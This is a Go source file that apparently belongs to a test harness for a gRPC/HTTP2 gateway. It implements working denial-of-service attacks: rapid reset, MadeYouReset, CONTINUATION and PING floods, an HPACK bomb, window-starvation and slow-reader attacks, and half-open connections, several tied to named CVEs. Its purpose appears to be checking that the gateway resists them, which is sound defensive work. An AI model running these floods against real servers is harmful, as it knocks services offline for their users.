package attack

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"math"
	"net"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/http2"
	testpb "google.golang.org/grpc/interop/grpc_testing"
	"google.golang.org/protobuf/proto"
)

// Services of the misers. They are in no descriptor: the gateway is told of them.
const (
	ZeroService   = "flood.Zero"   // a miser whose streams begin with no window
	SilentService = "flood.Silent" // one that gives the usual window, and no more
)

const (
	unary    = testpb.TestService_EmptyCall_FullMethodName
	stream   = testpb.TestService_StreamingOutputCall_FullMethodName
	upload   = testpb.TestService_StreamingInputCall_FullMethodName
	duplex   = testpb.TestService_FullDuplexCall_FullMethodName
	manyCall = 250 // the gateway's limit
)

// What the gateway has to do about an attack.
const (
	ends  = true  // end its connections
	waits = false // bear it, until a timeout that is longer than the test
)

var (
	noWindow  = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
	allWindow = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: math.MaxInt32}}
	partly    = prefixed(make([]byte, 1<<20))[:5] // announces a message of 1 MiB
)

// download is a request for n messages of a size.
func download(n int, size int32) []byte {
	req := &testpb.StreamingOutputCallRequest{}
	for range n {
		req.ResponseParameters = append(req.ResponseParameters, &testpb.ResponseParameters{Size: size})
	}
	b, err := proto.Marshal(req)
	if err != nil {
		panic(err)
	}
	return b
}

// All are the attacks.
func All() []Attack {
	return append([]Attack{
		{"rapid reset", "HEADERS and RST_STREAM(CANCEL) back to back (CVE-2023-44487)", 4, ends,
			h2(options{}, repeat(func(c *conn, _ int) error {
				id, _ := c.open(unary, false)
				_ = c.WriteRSTStream(id, http2.ErrCodeCancel)
				return c.step(2)
			}))},
		{"late reset", "the same, but the calls have begun: HEADERS of some calls, a pause, their RST_STREAMs", 4, ends,
			h2(options{}, repeat(func(c *conn, _ int) error {
				first := c.next
				for range burst / 2 {
					_, _ = c.open(duplex, false)
				}
				if err := c.flush(); err != nil {
					return err
				}
				sleep(c.ctx, 5*time.Millisecond)
				for id := first; id < c.next; id += 2 {
					_ = c.WriteRSTStream(id, http2.ErrCodeCancel)
				}
				return c.step(burst)
			}))},
		{"made you reset", "breaks a rule on each of its calls, so that the gateway resets it (CVE-2025-8671): WINDOW_UPDATE of 0 and of too much, DATA and HEADERS after END_STREAM, a short PRIORITY", 4, ends,
			h2(options{}, repeat(func(c *conn, i int) error {
				id, _ := c.open(duplex, i%5 == 2 || i%5 == 3)
				switch i % 5 {
				case 0:
					_ = c.WriteWindowUpdate(id, 0)
				case 1:
					_ = c.WriteWindowUpdate(id, math.MaxInt32)
				case 2:
					_ = c.WriteData(id, false, prefixed(nil))
				case 3:
					c.next = id
					_, _ = c.open(duplex, true)
				case 4:
					_ = c.WriteRawFrame(http2.FramePriority, 0, id, []byte{0, 0, 0, 0})
				}
				return c.step(2)
			}))},
		{"DATA after END_STREAM", "one ended call after another, and DATA on them all the time", 4, ends,
			h2(options{}, repeat(func(c *conn, i int) error {
				if i%20 == 0 {
					_, _ = c.open(duplex, true)
				}
				_ = c.WriteData(c.next-2, false, zeros[:100])
				return c.step(1)
			}))},
		{"too many streams", "opens calls and ends none, far above the limit", 4, ends,
			h2(options{}, repeat(func(c *conn, _ int) error {
				_, _ = c.open(duplex, false)
				return c.step(1)
			}))},
		{"CONTINUATION, endless", "a field section of 16 KiB frames that never ends (CVE-2024-27316 and others)", 4, ends,
			h2(options{}, func(c *conn) error {
				c.block.Reset()
				c.head(unary)
				_ = c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.block.Bytes()})
				// A literal without indexing, its name one byte and its value 4 KiB less.
				field := append([]byte{0x00, 1, 'x', 0x7f, 0x80, 0x1e}, strings.Repeat("a", 127+0x0f00)...)
				return repeat(func(c *conn, _ int) error {
					_ = c.WriteContinuation(1, false, field)
					return c.step(1)
				})(c)
			})},
		{"CONTINUATION, empty", "a field section of empty frames that never ends", 4, ends,
			h2(options{}, func(c *conn) error {
				_ = c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1})
				return repeat(func(c *conn, _ int) error {
					_ = c.WriteContinuation(1, false, nil)
					return c.step(1)
				})(c)
			})},
		{"PING", "PINGs (CVE-2019-9512), the answers are read", 4, ends,
			h2(options{}, repeat(func(c *conn, _ int) error {
				_ = c.WritePing(false, [8]byte{})
				return c.step(1)
			}))},
		{"PING, deaf", "PINGs, the answers are not read", 4, ends,
			h2(options{deaf: true}, repeat(func(c *conn, _ int) error {
				_ = c.WritePing(false, [8]byte{})
				return c.step(1)
			}))},
		{"SETTINGS", "twenty open calls, and SETTINGS that change all of their windows (CVE-2019-9515)", 4, ends,
			h2(options{}, repeat(func(c *conn, i int) error {
				if i < 20 {
					_, _ = c.open(duplex, false)
				}
				_ = c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i % 2 * 65535)})
				return c.step(1)
			}))},
		{"empty DATA", "empty DATA on an open call (CVE-2019-9518)", 4, ends,
			h2(options{}, repeat(func(c *conn, i int) error {
				if i == 0 {
					_, _ = c.open(duplex, false)
				}
				_ = c.WriteData(1, false, nil)
				return c.step(1)
			}))},
		{"one-byte DATA", "a large message a byte at a time", 4, ends,
			h2(options{}, repeat(func(c *conn, i int) error {
				if i == 0 {
					_, _ = c.open(duplex, false)
					_ = c.WriteData(1, false, partly)
				}
				if c.window.Add(-1) < 100 {
					return c.hold()
				}
				_ = c.WriteData(1, false, zeros[:1])
				return c.step(1)
			}))},
		{"WINDOW_UPDATE dribble", "ten downloads without a window, which gets one byte larger at a time (CVE-2019-9511)", 4, ends,
			h2(options{settings: noWindow}, repeat(func(c *conn, i int) error {
				if i < 10 {
					_, _ = c.call(stream, download(160, 64<<10))
				}
				_ = c.WriteWindowUpdate(uint32(2*(i%min(10, i+1))+1), 1)
				_ = c.WriteWindowUpdate(0, 1)
				return c.step(2)
			}))},
		{"HPACK bomb", "a large entry in the table, and thousands of references to it", 4, ends,
			h2(options{}, repeat(func(c *conn, i int) error {
				c.block.Reset()
				c.head(unary)
				if i == 0 {
					// A literal with incremental indexing: "x" and 3 KiB and a bit.
					c.block.Write([]byte{0x40, 1, 'x', 0x7f, 0x80, 0x18})
					c.block.WriteString(strings.Repeat("a", 127+0x0c00))
				}
				// The encoder has put :path, :authority, content-type and te into the table, so
				// the entry is the newest, and stays it: they are references from now on.
				n := 4 + i%2*16000
				for range n {
					c.block.WriteByte(0x80 | 62)
				}
				id := c.next
				c.next += 2
				b := c.block.Bytes()
				_ = c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: b[:min(len(b), 16000)], EndStream: true, EndHeaders: len(b) <= 16000})
				if len(b) > 16000 {
					_ = c.WriteContinuation(id, true, b[16000:])
				}
				return c.step(10)
			}))},
		{"zero window", "250 downloads with SETTINGS_INITIAL_WINDOW_SIZE 0", 1, waits,
			h2(options{settings: noWindow}, func(c *conn) error {
				for range manyCall {
					_, _ = c.call(stream, download(160, 64<<10))
					if err := c.step(2); err != nil {
						return err
					}
				}
				return c.hold()
			})},
		{"slow reader", "250 downloads with all the window there is, and nothing is read", 1, waits,
			h2(options{settings: allWindow, deaf: true}, func(c *conn) error {
				_ = c.WriteWindowUpdate(0, math.MaxInt32-65535)
				for range manyCall {
					_, _ = c.call(stream, download(160, 64<<10))
					if err := c.step(2); err != nil {
						return err
					}
				}
				return c.hold()
			})},
		{"reader that stops", "250 downloads; of 50 of them 4 MiB each are read fast, so that windows grow, and then nothing", 1, waits,
			h2(options{settings: noWindow}, func(c *conn) error {
				_ = c.WriteWindowUpdate(0, math.MaxInt32-65535)
				for i := range manyCall {
					id, _ := c.call(stream, download(160, 64<<10))
					if i < 50 {
						_ = c.WriteWindowUpdate(id, 4<<20)
					}
					c.frames += 3
					if err := c.flush(); err != nil {
						return err
					}
					sleep(c.ctx, 5*time.Millisecond)
				}
				return c.hold()
			})},
		{"half-open", "connections that stop in the middle of a preface, after it, in a ClientHello, in an HTTP/1.1 head", 300, waits,
			halfOpen()},
		{"backend without a window", "250 uploads to a backend whose streams have no window", 4, waits, uploads("/" + ZeroService + "/Upload")},
		{"backend that never credits", "250 uploads to a backend that never sends WINDOW_UPDATE", 4, waits, uploads("/" + SilentService + "/Upload")},
		{"backend that does not read", "250 uploads to a grpc-go handler that does not read", 1, waits, uploads(upload)},
		{"PRIORITY and unknown frames", "PRIORITY frames (CVE-2019-9513) and frames of a type that nobody knows", 4, ends,
			h2(options{}, repeat(func(c *conn, i int) error {
				if i%2 == 0 {
					_ = c.WritePriority(uint32(2*(i%1000)+1), http2.PriorityParam{StreamDep: 0, Weight: uint8(i)})
				} else {
					_ = c.WriteRawFrame(0xfa, 0, 0, zeros[:10])
				}
				return c.step(1)
			}))},
	}, slices.Concat(sockets(), pipesAttacks(), quics(), sessions())...)
}

// uploads sends as much as the gateway takes on as many streams as it takes.
func uploads(path string) func(context.Context, Target, *Log) error {
	return h2(options{}, func(c *conn) error {
		const window = 65535 // a stream's, at first
		for range manyCall {
			id, err := c.open(path, false)
			if err != nil {
				return err
			}
			for first, left := true, window; left > 0; first = false {
				n := min(16<<10, left)
				for c.window.Load() < int64(n) {
					// The connection's window is used up. It may be given back.
					if err := c.flush(); err != nil {
						return err
					}
					sleep(c.ctx, 5*time.Millisecond)
				}
				c.window.Add(int64(-n))
				left -= n
				b := zeros[:n]
				if first {
					b = append(binary.BigEndian.AppendUint32([]byte{0}, 1<<20), zeros[:n-5]...)
				}
				_ = c.WriteData(id, false, b)
				if err := c.step(10); err != nil {
					return err
				}
			}
		}
		return c.hold()
	})
}

// halfOpen has connections that stay somewhere before the first request.
func halfOpen() func(context.Context, Target, *Log) error {
	hello := clientHello()
	type start struct {
		secure bool
		bytes  string
	}
	starts := make(chan start, 5)
	for _, s := range []start{
		{false, http2.ClientPreface[:18]},
		{false, http2.ClientPreface},
		{true, hello[:len(hello)/2]},
		{false, "POST " + unary + " HTTP/1.1\r\nHost: localhost\r\nX-A"},
		{false, ""},
	} {
		starts <- s
	}
	return func(ctx context.Context, at Target, l *Log) error {
		s := <-starts
		starts <- s // in turn
		addr := at.Addr
		if s.secure {
			addr = at.TLSAddr
		}
		c, err := net.DialTimeout("tcp", addr, 5*time.Second)
		if err != nil {
			if ctx.Err() != nil {
				return ctx.Err()
			}
			return fmt.Errorf("%w: %w", errDial, err)
		}
		defer c.Close()
		defer context.AfterFunc(ctx, func() { _ = c.SetReadDeadline(time.Unix(1, 0)) })()
		if _, err := c.Write([]byte(s.bytes)); err != nil {
			return err
		}
		l.sent(1)
		buf := make([]byte, 512)
		for {
			if _, err := c.Read(buf); err != nil {
				if ctx.Err() == nil {
					l.saw("closed")
				}
				return err
			}
		}
	}
}

// clientHello is the first flight of a TLS client.
func clientHello() string {
	a, b := net.Pipe()
	defer b.Close()
	go func() { // ends with the pipe
		_ = tls.Client(a, &tls.Config{ServerName: "localhost", NextProtos: []string{"h2"}}).Handshake()
	}()
	buf := make([]byte, 4<<10)
	n, _ := b.Read(buf)
	return string(buf[:n])
}
